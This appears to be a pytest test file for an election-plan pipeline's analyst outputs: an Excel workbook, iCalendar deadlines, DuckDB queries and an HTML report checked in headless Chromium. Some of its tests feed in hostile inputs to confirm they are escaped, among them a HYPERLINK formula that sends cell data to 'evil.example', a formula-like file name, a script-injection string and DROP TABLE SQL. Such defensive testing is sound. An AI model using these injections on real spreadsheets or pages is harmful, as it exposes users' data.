"""What analysts open, built from a real night over the demo inbox (plus one broken upload): the Excel book,
the calendar, the DuckDB database with `svodka query`/`compare`, and the HTML report rendered in Chromium."""

import csv
import subprocess
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from icalendar import Calendar

from pipeline import analytics
from pipeline.night import run_night
from pipeline.outputs import ANALYST_WRITERS, OUTPUT_FILES
from pipeline.outputs.labels import anchor_words
from pipeline.outputs.report_html import report_html, write_report_html
from pipeline.outputs.xlsx import write_xlsx
from pipeline.publish import publish_release
from pipeline.settings import Settings
from schemas import Activity, DocumentRecord, message
from tests.conftest import SAMPLES

RUN_ID = "20260301T020000-test00"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
DATED = {"date", "range", "before", "after"}


@pytest.fixture(scope="module")
def night(tmp_path_factory):
    """A real night's activities and records (read back from the published JSONL) and a release with the
    analyst outputs, published the way `finish_night` publishes."""
    root = tmp_path_factory.mktemp("outputs")
    broken = root / "broken_inbox"
    broken.mkdir()
    (broken / "plan_tomsk_2024.docx").write_bytes(b"this is not a Word file")
    run_night([SAMPLES / "inbox", broken], Settings(out_dir=root / "night", workers=1))
    activities = [Activity.model_validate_json(line) for line in read_lines(root / "night" / "activities.jsonl")]
    records = [DocumentRecord.model_validate_json(line) for line in read_lines(root / "night" / "documents.jsonl")]
    out = root / "published"
    release = publish_release(out, RUN_ID, activities, records, extra_writers=ANALYST_WRITERS)
    return activities, records, out, release


def read_lines(path: Path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines()


def test_every_output_is_published_and_described(night):
    _, _, out, _ = night
    for name in OUTPUT_FILES:
        assert (out / name).exists(), name


def test_a_night_with_nothing_accepted_still_writes_every_output(night, tmp_path):
    quarantined = [r for r in night[1] if r.status == "quarantined"]
    release = tmp_path / RUN_ID
    release.mkdir()
    for writer in ANALYST_WRITERS:
        writer(release, [], quarantined)
    assert {p.name for p in release.iterdir()} == {"activities.xlsx", "report.html", "deadlines.ics",
                                                   "svodka.duckdb"}
    assert '{"lanes": [], ' in (release / "report.html").read_text(encoding="utf-8")


# ---------------------------------------------------------------- Excel


def test_activities_sheet_matches_the_jsonl(night):
    activities, _, out, _ = night
    sheet = openpyxl.load_workbook(out / "activities.xlsx")["Мероприятия"]
    headers = [c.value for c in sheet[1]]
    assert headers[:6] == ["Регион", "Код региона", "Год", "Раздел", "№", "Мероприятие"]
    assert sheet.max_row == len(activities) + 1
    title, start, end = (headers.index(h) for h in ("Мероприятие", "Начало", "Окончание"))
    for row, a in zip(sheet.iter_rows(min_row=2), activities):
        assert row[title].value == a.title
        assert (row[start].value.date() if row[start].value else None) == a.deadline_start
        assert (row[end].value.date() if row[end].value else None) == a.deadline_end
        if a.deadline_start:
            assert row[start].is_date and row[start].number_format == "DD.MM.YYYY"


def test_every_sheet_is_filtered_with_a_frozen_header(night):
    book = openpyxl.load_workbook(night[2] / "activities.xlsx")
    assert book.sheetnames == ["Мероприятия", "Регионы × категории", "Документы", "Требуют проверки"]
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title


def test_matrix_and_documents_sheets_add_up(night):
    activities, records, out, _ = night
    book = openpyxl.load_workbook(out / "activities.xlsx")
    matrix = list(book["Регионы × категории"].iter_rows(min_row=2, values_only=True))
    assert sum(row[-1] for row in matrix) == len(activities)
    assert {row[0] for row in matrix} == {a.region_name for a in activities}
    documents = list(book["Документы"].iter_rows(min_row=2, values_only=True))
    assert len(documents) == len(records)
    assert ("plan_tomsk_2024.docx", "отложен (карантин)") in {row[:2] for row in documents}


def test_review_sheet_lists_the_quarantined_file_and_every_open_doubt(night):
    activities, _, out, _ = night
    rows = list(openpyxl.load_workbook(out / "activities.xlsx")["Требуют проверки"].iter_rows(values_only=True))
    issues = [row[0] for row in rows[1:]]
    assert issues.count("Файл не принят") == 1
    assert issues.count("Мероприятие") == sum(len(a.review_reasons) for a in activities) > 0
    assert any("раньше даты утверждения плана" in row[6] for row in rows[1:])


@pytest.mark.parametrize(("anchor", "offset", "words"), [
    ("voting_day", -10, "день голосования −10 дн."),
    ("election_called", 1, "назначение выборов +1 дн."),
    ("voting_first_day", 0, "первый день голосования"),
    ("voting_days", None, "дни голосования"),
    (None, None, ""),
])
def test_anchor_words_of_the_excel_sheet(anchor, offset, words):
    assert anchor_words(anchor, offset) == words


def test_the_same_data_makes_the_same_workbook(night, tmp_path):
    activities, records, _, release = night
    (tmp_path / release.name).mkdir()
    again = write_xlsx(tmp_path / release.name, activities, records)
    assert again.read_bytes() == (release / "activities.xlsx").read_bytes()


@pytest.mark.parametrize(("text", "in_csv"), [
    ("=1+2", "'=1+2"), ("+7 (999) 123-45-67", "'+7 (999) 123-45-67"), ("-ежемесячно", "'-ежемесячно"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Срок: до 1 марта", "Срок: до 1 марта"), ("1 = 1", "1 = 1"), ("", ""),
])
def test_formula_like_text_is_escaped_for_csv(text, in_csv):
    from pipeline.outputs.safe_text import csv_safe, is_formula_like

    assert csv_safe(text) == in_csv
    assert is_formula_like(text) == (text != in_csv)


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")'
FORMULA_NAME = "=1+2 план штаба.txt"


def test_text_that_looks_like_a_formula_stays_text_in_excel_and_csv(tmp_path):
    """A cell and a file name starting with «=» (or «+», «-», «@») never become live formulas."""
    text = (SAMPLES / "inbox" / "kuzbass_2021.txt").read_text(encoding="utf-8")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / FORMULA_NAME).write_text(text.replace("Комплектование состава", FORMULA, 1), encoding="utf-8")
    run_night([inbox], Settings(out_dir=tmp_path / "out", workers=1))
    book = openpyxl.load_workbook(tmp_path / "out" / "activities.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    review = openpyxl.load_workbook(tmp_path / "out" / "review.xlsx")  # people's corrections file, too
    assert [c.coordinate for sheet in review for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    titles = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
    names = [c for c in cells if c.value == FORMULA_NAME]
    assert titles and len(names) == 17 + 1, "every activity's «Файл» and the «Документы» row"
    assert all(c.quotePrefix and c.data_type == "s" for c in titles + names), "marked as text, as Excel does"
    raw = (tmp_path / "out" / "activities.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines()))
    assert rows[0]["title"].startswith("'" + FORMULA) and {r["source_file"] for r in rows} == {"'" + FORMULA_NAME}
    assert raw.splitlines()[1].startswith('"'), "OWASP: every field quoted"


# ---------------------------------------------------------------- iCalendar


def events_of(out: Path) -> dict[str, object]:
    calendar = Calendar.from_ical((out / "deadlines.ics").read_bytes())
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


def test_one_event_per_dated_activity(night):
    activities, _, out, _ = night
    events = events_of(out)
    dated = [a for a in activities if a.deadline_kind in DATED and (a.deadline_start or a.deadline_end)]
    assert len(events) == len(dated) > 0
    assert set(events) == {f"{a.activity_id}@svodka" for a in dated}


@pytest.mark.parametrize("kind", ["range", "before", "after"])
def test_event_days_follow_the_deadline_kind(night, kind):
    activities, _, out, _ = night
    events = events_of(out)
    a = next(a for a in activities if a.deadline_kind == kind)
    event = events[f"{a.activity_id}@svodka"]
    start, end = event["DTSTART"].dt, event["DTEND"].dt
    first, last = a.deadline_start or a.deadline_end, a.deadline_end or a.deadline_start
    assert (start, end) == (first, last + timedelta(days=1))
    assert str(event["SUMMARY"]) == f"{a.region_name}: {a.title}"
    assert a.deadline_raw in str(event["DESCRIPTION"])


# ---------------------------------------------------------------- DuckDB, query and compare


def test_sql_counts_per_region_match_the_jsonl(night):
    activities, _, out, _ = night
    _, rows = analytics.fetch(out, "SELECT region_name, count(*) FROM activities GROUP BY 1")
    expected = {}
    for a in activities:
        expected[a.region_name] = expected.get(a.region_name, 0) + 1
    assert dict(rows) == expected
    text = analytics.run_query(out, "SELECT region_name, count(*) AS n FROM activities GROUP BY 1 ORDER BY 1")
    assert text.splitlines()[0].split() == ["region_name", "n"]
    assert f"({len(expected)} строк)" in text
    assert all(region in text for region in expected)


def test_hotline_view_and_typed_columns(night):
    activities, _, out, _ = night
    _, rows = analytics.fetch(out, "SELECT title FROM hotline")
    assert sorted(r[0] for r in rows) == sorted(a.title for a in activities if a.category == "hotline")
    _, types = analytics.fetch(out, "SELECT typeof(deadline_start), typeof(responsible_persons), "
                                    "typeof(deadline_dates), typeof(deadline_offset_days) FROM activities LIMIT 1")
    assert types[0] == ("DATE", "VARCHAR[]", "DATE[]", "INTEGER")
    _, regions = analytics.fetch(out, "SELECT count(*) FROM regions")
    assert regions[0][0] == 89


def test_database_is_read_through_the_current_release(night):
    _, _, out, release = night
    assert (out / "svodka.duckdb").is_symlink()
    assert analytics.database_of(out) == (release / "svodka.duckdb").resolve()


@pytest.mark.parametrize("sql", ["SELECT * FROM no_such_table", "SELEKT 1", "DROP TABLE activities"])
def test_bad_sql_gets_a_russian_error_not_a_traceback(night, sql):
    with pytest.raises(analytics.QueryError, match="Запрос не выполнен"):
        analytics.run_query(night[2], sql)


def test_query_without_a_database_says_what_to_run(tmp_path):
    with pytest.raises(analytics.QueryError, match="svodka ingest"):
        analytics.run_query(tmp_path, "SELECT 1")


def test_compare_hotline_names_every_region_with_a_hotline(night):
    activities, _, out, _ = night
    text = analytics.compare(out, "hotline")
    for region in {a.region_name for a in activities if a.category == "hotline"}:
        assert region in text
    assert "Д−39…Д+3" in text  # Chuvashia: 01.08–12.09.2022, voting 09–11.09.2022 (Д0 = 09.09)


def test_compare_lists_regions_lacking_the_category(night):
    activities, _, out, _ = night
    having = {a.region_name for a in activities if a.category == "legal"}
    lacking = sorted({a.region_name for a in activities} - having)
    assert lacking
    assert analytics.compare(out, "Правовые вопросы").splitlines()[-1] == "Нет в планах: " + ", ".join(lacking)
    with pytest.raises(analytics.QueryError, match="Нет категории"):
        analytics.compare(out, "космос")


# ---------------------------------------------------------------- the HTML report


def test_report_names_upcoming_deadlines_relative_to_today(night):
    activities, records, _, _ = night
    page = report_html(activities, records, today=date(2021, 9, 1))
    upcoming = page[page.index('id="upcoming"'):page.index('id="quality"')]
    assert "Организация проведения &quot;горячей линии&quot; Общественной палаты края" in upcoming
    assert "сроков нет" not in upcoming
    later = report_html(activities, records, today=date(2030, 1, 1))
    assert "В ближайшие 6 недель сроков нет" in later


def test_report_escapes_what_plans_say(night):
    activities, records, _, _ = night
    hostile = activities[0].model_copy(update={"title": "<script>alert('x')</script> & </script>",
                                               "review_reasons": [message("review.category_other")]})
    page = report_html([hostile, *activities[1:]], records, today=date(2022, 9, 1))
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in page
    assert "\\u003c/script>" in page  # inside the timeline's JSON


def chromium(*args: str, profile: Path) -> subprocess.CompletedProcess:
    return subprocess.run([str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args],
                          capture_output=True, text=True, timeout=120)


@pytest.fixture(scope="module")
def rendered_report(night, tmp_path_factory):
    if not CHROMIUM.exists():
        pytest.skip("нет /usr/bin/chromium: установите его (apt-get install -y chromium), чтобы проверить отчёт")
    activities, records, _, release = night
    folder = tmp_path_factory.mktemp("report")
    return write_report_html(folder, activities, records, today=date(2021, 9, 1)), folder


def test_report_renders_in_chromium_without_errors(rendered_report):
    report, folder = rendered_report
    result = chromium("--enable-logging=stderr", "--v=0", "--dump-dom", report.as_uri(), profile=folder / "p1")
    assert result.returncode == 0, result.stderr[-2000:]
    for element in ('id="matrix"', 'id="timeline"', 'id="upcoming"', 'id="quality"', 'id="toggle-relative"'):
        assert element in result.stdout
    assert 'data-rendered="1"' in result.stdout and 'data-mode="calendar"' in result.stdout
    assert result.stdout.count("<rect") > 50  # the bars were drawn by the page's script
    assert [line for line in result.stderr.splitlines() if ":CONSOLE" in line] == []


def test_report_switches_to_days_from_the_voting_day(rendered_report):
    report, folder = rendered_report
    result = chromium("--dump-dom", report.as_uri() + "#relative", profile=folder / "p2")
    assert 'data-mode="relative"' in result.stdout
    assert ">Д0<" in result.stdout


def test_report_screenshot_is_not_blank(rendered_report):
    Image = pytest.importorskip("PIL.Image", reason="нет Pillow: добавьте pillow в зависимости для разработки")
    report, folder = rendered_report
    png = folder / "report.png"
    chromium(f"--screenshot={png}", "--window-size=1400,2400", report.as_uri(), profile=folder / "p3")
    with Image.open(png) as image:
        colours = image.convert("RGB").getcolors(maxcolors=1_000_000)
    assert image.size == (1400, 2400)
    assert len(colours) > 50
